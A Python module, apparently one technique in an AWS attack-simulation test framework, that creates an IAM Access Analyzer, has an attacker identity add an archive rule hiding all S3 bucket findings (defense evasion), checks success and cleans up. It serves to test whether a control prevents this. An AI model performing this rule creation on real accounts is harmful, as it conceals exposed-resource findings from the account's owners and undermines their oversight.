"""Let IAM Access Analyzer archive its own findings: a door that is opened next is not reported."""

from bastide.attack.stage import Stage
from bastide.attack.technique import Prevented, Scene, Technique

TECHNIQUE = Technique(
    title="Access Analyzer archives its findings by rule",
    mitre=("T1562.001",),
    tactic="defense-evasion",
    detectors=("GuardDuty DefenseEvasion:IAMUser/AnomalousBehavior",),
    expected=Prevented("access-analyzer-protect"),
    source="IAM Access Analyzer API Reference, CreateArchiveRule",
)


def prepare(stage: Stage) -> Scene:
    """An analyzer of the account."""
    name = stage.name("analyzer")
    stage.owner().client("accessanalyzer").create_analyzer(analyzerName=name, type="ACCOUNT")
    return {"analyzer": name, "rule": stage.name("noise")}


def attack(stage: Stage, scene: Scene) -> None:
    """A rule that archives what concerns buckets."""
    stage.attacker().client("accessanalyzer").create_archive_rule(
        analyzerName=scene["analyzer"], ruleName=scene["rule"], filter={"resourceType": {"eq": ["AWS::S3::Bucket"]}}
    )


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The analyzer lists the rule."""
    found = stage.owner().client("accessanalyzer").list_archive_rules(analyzerName=scene["analyzer"])["archiveRules"]
    return scene["rule"] in [one["ruleName"] for one in found]


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete the analyzer with its rules."""
    stage.owner().client("accessanalyzer").delete_analyzer(analyzerName=scene["analyzer"])
